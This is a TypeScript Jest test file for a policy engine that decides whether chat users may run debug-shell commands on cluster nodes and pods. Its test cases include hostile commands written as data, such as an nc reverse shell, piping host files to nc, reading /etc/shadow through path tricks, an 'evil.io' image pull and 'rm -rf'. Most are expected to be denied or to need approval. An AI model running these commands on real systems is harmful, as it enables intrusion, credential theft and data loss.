import { expect, test } from '@jest/globals'
import type { ThreadRef } from '#core/messages/thread-ref'
import { toPrincipal } from '#core/people/to-principal'
import { authorize, mayName } from '#core/policy/authorize'
import type { Decision } from '#core/policy/policy'
import type { Target } from '#core/request/target'
import { knownNames } from '#src/app/policy-file'
import { parse } from '#src/command/parse'
import { plan } from '#src/command/plan'
import { parseConfig } from '#src/config/load'
import { catalogue } from '#src/tools/index'
import { expectValid } from '#test/config/expect-valid'

const now = '2026-11-24T03:00:00.000Z'

const text = `
clusters: [{ name: prod-eu, default: true }, { name: prod-us }, { name: lab }]
shell: { image: { repo: a.io/shell, version: v1 } }
capabilitySets:
  probe: { tools: [ping, dig, nc, curl] }
  netfilter: { tools: [iptables, nft], capabilities: [NET_ADMIN, NET_RAW], maxDeadline: 2m }
  host-read: { tools: [chroot, systemctl, cat, ls, tail], capabilities: [SYS_CHROOT], host: { filesystem: read-only, pid: true } }
  host-write: { tools: ['*'], capabilities: [SYS_CHROOT], host: { filesystem: read-write, pid: true }, effect: write, approval: { from: ['group:sre-leads'] } }
  firewall: { tools: [iptables], capabilities: [NET_ADMIN, NET_RAW], effect: write }
  everything: { tools: ['*'], capabilities: [ALL], host: { filesystem: read-write, pid: true }, effect: write }
  counters: { tools: [ping, cat /proc/net/sockstat, chroot /host cat /etc/resolv.conf, cat -n /etc/hosts], capabilities: [SYS_CHROOT], host: { filesystem: read-only, pid: true } }
  trusted-pull: { tools: [ping], images: ['a.io/*'] }
groups: { sre-leads: [alice@example.com, 'slack:usergroup/S0LEADS'], nested: ['group:sre-leads'] }
grants:
  - { to: [carol@example.com], sets: [probe, netfilter, host-read], on: [{ cluster: 'prod-*', nodes: 'pool=web' }, { namespaces: [shop, 'team-*'] }] }
  - { to: ['group:sre-leads'], sets: [host-write], on: [{ cluster: '*', nodes: '*' }], in: ['slack:channel/C0INCIDENT'] }
  - { to: [dora@example.com], sets: [firewall, host-write], on: [{ nodes: '*' }] }
  - { to: [old@example.com], sets: [probe], on: [{ nodes: '*' }], until: 2026-11-24T03:00:00Z }
  - { to: [later@example.com], sets: [probe], on: [{ nodes: '*' }], until: 2026-11-24T03:00:01Z }
  - { to: [root@example.com], sets: [everything], on: [{ nodes: '*' }] }
  - { to: [puller@example.com], sets: [trusted-pull], on: [{ nodes: '*' }] }
  - { to: ['group:nested'], sets: [probe], on: [{ cluster: lab, nodes: 'lab-*-a' }] }
  - { to: [podder@example.com], sets: [probe], on: [{ namespaces: 'team=blue', pods: 'app in (web, api),tier!=db' }] }
  - { to: [counter@example.com], sets: [counters], on: [{ nodes: '*' }, { namespaces: [shop] }] }
`

const { config } = expectValid(parseConfig(text, {}, { ...knownNames(), now: new Date(now) }))

type Where = {
  labels?: Record<string, string>
  namespaceLabels?: Record<string, string>
  channel?: string
  groups?: string[]
}

function ask(as: string, typed: string, where: Where = {}): Decision {
  const command = parse({ text: typed }, catalogue)
  if (command.verb !== 'shell') throw new Error(JSON.stringify(command))
  const planned = plan(command, catalogue, config.shell.image)
  if ('verb' in planned) throw new Error(planned.message)
  const target: Target = { ...command.target, cluster: command.target.cluster ?? config.defaultCluster }
  const { labels = { pool: 'web' }, namespaceLabels = {}, channel = 'C0ANY', groups = [] } = where
  const thread: ThreadRef = { platform: 'slack', team: 'T1', channel }
  const account = {
    platform: 'slack' as const,
    team: 'T1',
    user: 'U1',
    name: as,
    email: as,
    kind: 'member' as const,
    groups,
  }
  const by = toPrincipal(account, { groups: config.groups, people: {} })
  const facts = { uid: 'u', node: 'n', os: 'linux' as const, labels, namespaceLabels }
  const deadline = command.flags.deadline === undefined ? {} : { deadline: command.flags.deadline }
  return authorize({ ...planned, by, target, facts, thread, ...deadline }, config.policy, now)
}

const short = (decision: Decision) =>
  decision.effect === 'deny' ? `deny ${decision.reason}` : `${decision.effect} ${decision.set}`

test.each<[string, string, string, Where?]>([
  ['carol@example.com', 'shell node001 dig example.com', 'allow probe'],
  ['CAROL@example.com', 'shell node001 dig example.com', 'allow probe'],
  ['carol@example.com', 'shell node001 iptables -nvL | head -n 2', 'allow netfilter'],
  ['carol@example.com', 'shell node001 systemctl status kubelet', 'allow host-read'],
  ['carol@example.com', 'shell node001 dig example.com', 'deny no-grant', { labels: { pool: 'db' } }],
  ['carol@example.com', 'shell node001 dig example.com', 'deny no-grant', { labels: {} }],
  ['carol@example.com', 'shell --context prod-us node001 dig x', 'allow probe'],
  ['carol@example.com', 'shell --context lab node001 dig x', 'deny no-grant'],
  ['carol@example.com', 'shell -n shop pod/web-1 ping 10.0.0.1', 'allow probe'],
  ['carol@example.com', 'shell -n team-red pod/web-1 ping 10.0.0.1', 'allow probe'],
  ['carol@example.com', 'shell -n teamred pod/web-1 ping 10.0.0.1', 'deny no-grant'],
  ['carol@example.com', 'shell -n kube-system pod/web-1 ping 10.0.0.1', 'deny no-grant'],
  ['nobody@example.com', 'shell node001 dig example.com', 'deny no-grant'],
  ['carol@example.com.evil.example', 'shell node001 dig example.com', 'deny no-grant'],
  ['alice@example.com', 'shell node001 rm -rf /host/x', 'ask host-write', { channel: 'C0INCIDENT' }],
  ['alice@example.com', 'shell node001 rm -rf /host/x', 'deny channel'],
  [
    'somebody@example.com',
    'shell node001 rm x',
    'ask host-write',
    { channel: 'C0INCIDENT', groups: ['slack:usergroup/S0LEADS'] },
  ],
  ['alice@example.com', 'shell --context lab lab-7-a dig x', 'allow probe'],
  ['alice@example.com', 'shell --context lab lab-a dig x', 'deny channel'],
  ['old@example.com', 'shell node001 dig x', 'deny expired'],
  ['later@example.com', 'shell node001 dig x', 'allow probe'],
  [
    'podder@example.com',
    'shell -n any pod/x dig x',
    'allow probe',
    { labels: { app: 'web' }, namespaceLabels: { team: 'blue' } },
  ],
  [
    'podder@example.com',
    'shell -n any pod/x dig x',
    'deny no-grant',
    { labels: { app: 'web', tier: 'db' }, namespaceLabels: { team: 'blue' } },
  ],
  [
    'podder@example.com',
    'shell -n any pod/x dig x',
    'deny no-grant',
    { labels: { app: 'job' }, namespaceLabels: { team: 'blue' } },
  ],
  ['podder@example.com', 'shell -n any pod/x dig x', 'deny no-grant', { labels: { app: 'web' } }],
])('%s: %s → %s', (as, typed, expected, ...where) => {
  expect(short(ask(as, typed, ...where))).toBe(expected)
})

// T07: one set has to cover the whole request; rights of several sets are never combined.
test.each([
  // curl is in one set, the node's file system in another.
  ['shell -m node001 curl http://x', 'deny host'],
  ['shell -c NET_ADMIN node001 curl http://x', 'deny capabilities'],
  ['shell node001 cat /host/etc/hosts | nc 10.0.0.1 9', 'deny tool'],
  ['shell node001 iptables -S | nc 10.0.0.1 9', 'deny tool'],
  ['shell --host-pid -c NET_ADMIN,NET_RAW node001 iptables -L', 'deny host'],
])('T07 %s → %s', (typed, expected) => {
  expect(short(ask('carol@example.com', typed))).toBe(expected)
})

// T08: every flag is authorized.
test.each([
  ['shell --host-pid node001 dig x', 'deny host'],
  ['shell -m node001 ping x', 'deny host'],
  ['shell -w node001 cat /host/x', 'deny host'],
  ['shell -c SYS_ADMIN node001 dig x', 'deny capabilities'],
  ['shell -c ALL node001 dig x', 'deny capabilities'],
  ['shell -c NET_RAW node001 dig x', 'deny capabilities'],
  ['shell --seccomp-unconfined node001 dig x', 'deny confinement'],
  ['shell --apparmor-unconfined node001 dig x', 'deny confinement'],
  ['shell --retina-shell-image-repo evil.io/x node001 dig x', 'deny image'],
  ['shell --deadline 3m node001 iptables -L', 'deny deadline'],
  ['shell node001 iptables -F', 'deny effect'],
  ['shell node001 nc -e sh 10.0.0.1 1', 'deny special-argument'],
  ['shell node001 sed 1d', 'deny tool'],
])('T08 %s → %s', (typed, expected) => {
  expect(short(ask('carol@example.com', typed))).toBe(expected)
})

test('SYS_ADMIN and ALL are granted only by name', () => {
  expect(short(ask('root@example.com', 'shell -c ALL node001 dig x'))).toBe('allow everything')
  expect(short(ask('root@example.com', 'shell -c NET_RAW node001 dig x'))).toBe('allow everything')
  expect(short(ask('root@example.com', 'shell -c SYS_ADMIN node001 dig x'))).toBe('deny capabilities')
})

test('a special argument has to be granted by name, even with a grant for every tool', () => {
  expect(short(ask('root@example.com', 'shell node001 nc -e sh 10.0.0.1 1'))).toBe('deny special-argument')
})

test.each([
  ['shell node001 cat /proc/net/sockstat', 'allow counters'],
  ['shell -n shop pod/web-1 cat /proc/net/sockstat', 'allow counters'],
  ['shell node001 chroot /host cat /etc/resolv.conf', 'allow counters'],
  ['shell node001 cat /proc/net/sockstat | head -n 2', 'allow counters'],
  ['shell node001 cat /etc/resolv.conf', 'deny tool'],
  ['shell node001 cat /proc/net/sockstat /etc/shadow', 'deny tool'],
  ['shell node001 cat /proc/net/../net/sockstat', 'deny tool'],
  ['shell node001 cat "/proc/net/sockstat /etc/shadow"', 'deny tool'],
  ['shell node001 chroot /host cat /etc/shadow', 'deny tool'],
  ['shell node001 cat -n /etc/hosts', 'allow counters'],
  ['shell node001 cat /etc/hosts -n', 'deny tool'],
  ['shell node001 cat /proc/net/sockstat | cat /etc/shadow', 'deny tool'],
])('T11 a set that lists a whole command gives that one and no other: %s → %s', (typed, expected) => {
  expect(short(ask('counter@example.com', typed))).toBe(expected)
})

test('another image has to be granted by name', () => {
  expect(short(ask('puller@example.com', 'shell --retina-shell-image-version v2 node001 ping x'))).toBe(
    'allow trusted-pull',
  )
  expect(short(ask('puller@example.com', 'shell --retina-shell-image-repo b.io/x node001 ping x'))).toBe('deny image')
})

test('a grant without conditions wins over one that needs approval', () => {
  expect(short(ask('dora@example.com', 'shell node001 iptables -F'))).toBe('allow firewall')
  expect(short(ask('dora@example.com', 'shell node001 nft flush ruleset'))).toBe('deny capabilities')
  expect(short(ask('dora@example.com', 'shell -w node001 rm /host/x'))).toBe('ask host-write')
})

test('a refusal names the sets that would cover it, and is the same for existing and missing targets', () => {
  expect(ask('carol@example.com', 'shell node001 iptables -F')).toMatchObject({
    reason: 'effect',
    message: 'Not allowed: "netfilter" is read-only, and this may change the target.',
    wouldNeed: ['firewall', 'everything'],
  })
  expect(ask('nobody@example.com', 'shell node001 dig x')).toMatchObject({
    message: 'You have no grant on node/node001.',
  })
})

test('a target may be named only by people with a grant on it', () => {
  const by = { id: 'carol@example.com', name: 'Carol', groups: [] }
  const named = (labels: Record<string, string>) => ({
    target: { kind: 'node' as const, cluster: 'prod-eu', name: 'n1' },
    labels,
    namespaceLabels: {},
  })
  expect(mayName(by, config.policy, named({ pool: 'web' }), now)).toBe(true)
  expect(mayName(by, config.policy, named({ pool: 'db' }), now)).toBe(false)
  expect(mayName({ ...by, id: 'old@example.com' }, config.policy, named({}), now)).toBe(false)
})
